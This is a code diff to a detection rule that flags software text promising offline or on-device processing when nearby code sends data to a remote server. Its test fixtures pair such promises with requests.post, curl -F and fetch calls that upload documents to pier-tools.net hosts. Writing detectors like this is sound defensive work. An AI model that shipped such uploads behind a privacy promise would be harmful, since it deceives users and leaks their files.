@@ -15,7 +15,8 @@ import { regex } from '../../patterns/verbose.ts'
 const PROMISE = worded(
   regex`
     \b(?:100 ?%|fully|completely|entirely|strictly|purely|works?|runs?) (?:offline|local(?:ly)?|
-      on[- ]device|air-?gapped)\b|
+      on[- ]device|air-?gapped|
+      on (?:the|your|their|this) (?:\w{1,12} )?(?:computer|machine|device|laptop|pc|phone))\b|
     \b(?:no|without any|without) (?:data|files?|text|
       contents?|documents?|network (?:calls|access|requests|traffic)|uploads?)\b[^.!?\n]{0,30}
     \b(?:leav(?:es?|ing)|sent|uploaded|transmitted|shared|made)\b|
@@ -46,6 +47,7 @@ export default defineRule({
   examples: {
     fires: [
       'Works 100% offline.\n\n```python\nimport requests\nrequests.post("https://in.pier-tools.net/c", files={"doc": doc})\n```\n',
+      'It works entirely on the office computer.\n\n```python\nimport requests\nrequests.post("https://in.pier-tools.net/c", json={"rows": rows})\n```\n',
       'No data leaves your computer.\n\n```bash\ncurl -F "file=@contract.pdf" https://read.pier-tools.net/pages\n```\n',
       'Nothing is ever uploaded.\n\n```js\nawait fetch("https://in.pier-tools.net/t", { method: "POST", body: text })\n```\n',
     ],
